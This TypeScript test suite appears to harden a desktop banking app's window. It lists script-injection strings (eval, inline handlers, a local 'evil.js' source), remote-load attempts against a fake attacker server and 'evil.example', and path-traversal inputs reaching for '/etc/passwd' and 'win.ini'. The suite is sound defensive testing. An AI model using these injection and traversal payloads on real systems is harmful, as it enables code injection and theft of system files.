import type { LaunchedTrax } from '../../scripts/lib/launch.ts';
import { startWebServer, type Attacker } from './support/attacker.ts';
import { openDesk, type Desk } from './support/desk.ts';
import { expect, test } from './support/test.ts';

/** https://www.w3.org/TR/trusted-types/, which TypeScript's DOM does not know yet. */
interface TrustedTypes {
  readonly createPolicy: (name: string, rules: { createHTML: (text: string) => string }) => unknown;
}

/** Markup that got into the app window, and files that are asked of its scheme. */
test.describe('content in the app window', () => {
  let desk: Desk;
  let trax: LaunchedTrax;
  let attacker: Attacker;

  test.beforeAll(async () => {
    desk = await openDesk();
    trax = await desk.startDemo();
    attacker = await startWebServer();
    await trax.window.getByRole('heading', { name: 'Banks', level: 1 }).waitFor();
  });
  test.afterAll(async () => {
    await attacker.close();
    await desk.clear();
  });

  test('a string cannot become a script', async () => {
    const outcomes = await trax.window.evaluate(async (port) => {
      // What the debugger itself calls may use eval; what comes after an answer may not.
      await fetch('trax://app/index.html');
      const tryOut = (attack: () => unknown): string => {
        try {
          attack();
          return 'it ran';
        } catch (error) {
          return error instanceof Error ? error.name : 'thrown';
        }
      };
      const script = document.createElement('script');
      const frame = document.createElement('iframe');
      return [
        () => {
          Reflect.apply(Reflect.get(globalThis, 'eval') as () => void, null, ['pwned = 1']);
        },
        () => Reflect.construct(Function, ['globalThis.pwned = 1']),
        () => Reflect.set(script, 'textContent', 'globalThis.pwned = 1'),
        () => Reflect.set(script, 'src', `http://127.0.0.1:${port}/evil.js`),
        () =>
          Reflect.set(document.body.appendChild(document.createElement('p')), 'innerHTML', '<b>'),
        () => {
          document.body.setAttribute('onclick', 'globalThis.pwned = 1');
        },
        () => Reflect.set(frame, 'srcdoc', '<script>parent.pwned = 1</script>'),
        () => Reflect.set(document.createElement('object'), 'data', `http://127.0.0.1:${port}/`),
        () => new Worker('data:text/javascript,postMessage(1)'),
        () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
        () => {
          const factory = Reflect.get(globalThis, 'trustedTypes') as TrustedTypes;
          factory.createPolicy('evil', { createHTML: (text) => text });
        },
      ].map(tryOut);
    }, attacker.port);
    expect(outcomes).not.toContain('it ran');
  });

  test('remote content is refused by the policy, whatever carries it', async () => {
    const refused = await trax.window.evaluateHandle((remote) => {
      const directives: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        directives.push(effectiveDirective);
      });
      const add = (name: string, attributes: Record<string, string>) => {
        const made = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
        return document.body.appendChild(made);
      };
      add('iframe', { src: remote });
      add('img', { src: remote });
      add('audio', { src: remote });
      add('link', { rel: 'stylesheet', href: remote });
      add('link', { rel: 'prefetch', href: remote });
      add('base', { href: remote });
      const form = add('form', { action: remote, method: 'post' });
      if (form instanceof HTMLFormElement) form.submit();
      void fetch(remote, { mode: 'no-cors' }).catch(() => undefined);
      navigator.sendBeacon(remote, 'x');
      new WebSocket(remote.replace('http', 'ws'));
      new EventSource(remote);
      const request = new XMLHttpRequest();
      request.open('GET', remote);
      request.send();
      return directives;
    }, `http://127.0.0.1:${attacker.port}/`);
    const expected = [
      ...['frame-src', 'img-src', 'media-src', 'style-src-elem', 'base-uri', 'form-action'],
      ...Array.from({ length: 5 }, () => 'connect-src'),
    ];
    await expect.poll(() => refused.jsonValue()).toEqual(expect.arrayContaining(expected));
    const all = await refused.jsonValue();
    expect(all.filter((directive) => directive === 'connect-src')).toHaveLength(5);
    expect(attacker.visits).toEqual([]);
  });

  test('the session refuses what no policy covers', async () => {
    const outcomes = await trax.app.evaluate(
      async ({ session }, port) =>
        Promise.all(
          [`http://127.0.0.1:${port}/`, 'https://evil.example/', 'https://sandbox.plaid.com/'].map(
            (url) =>
              session.defaultSession.fetch(url).then(
                () => 'it answered',
                (error: unknown) => String(error),
              ),
          ),
        ),
      attacker.port,
    );
    expect(outcomes).toEqual(outcomes.map(() => 'Error: net::ERR_BLOCKED_BY_CLIENT'));
    expect(attacker.visits).toEqual([]);
  });

  test('path traversal: a path that leaves the app’s folder', async () => {
    const paths = [
      '/../main/index.js',
      '/../../package.json',
      '/../../../../../../etc/passwd',
      '/%2e%2e/main/index.js',
      '/%2e%2e%2fmain%2findex.js',
      '/..%2f..%2fpackage.json',
      '/..%5c..%5cpackage.json',
      '/assets/..%2f..%2f..%2fpackage.json',
      '//etc/passwd',
      '/etc/passwd',
      '/C:/Windows/win.ini',
      '/index.html%00.js',
      '/index.html/',
      '/INDEX.HTML',
      '/assets',
      '/assets/',
      '/',
      '',
      '/link/index.html',
      '/../link/index.html',
      '/__proto__',
      '/constructor',
    ];
    const answers = await trax.window.evaluate(
      (all) =>
        Promise.all(
          all.map(async (path) => {
            const response = await fetch(`trax://app${path}`);
            return `${response.status} ${await response.text()}`;
          }),
        ),
      paths,
    );
    expect(answers).toEqual(answers.map(() => '404 Not found'));
    const posted = await trax.window.evaluate(async () => {
      const response = await fetch('trax://app/index.html', { method: 'POST', body: 'x' });
      return response.status;
    });
    expect(posted).toBe(404);
  });

  test('every file of the app comes with its policy', async () => {
    const headers = await trax.window.evaluate(async () => {
      const response = await fetch('trax://app/index.html');
      return Object.fromEntries(response.headers);
    });
    expect(headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
    });
    const policy = headers['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self';");
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:|\*/);
  });
});
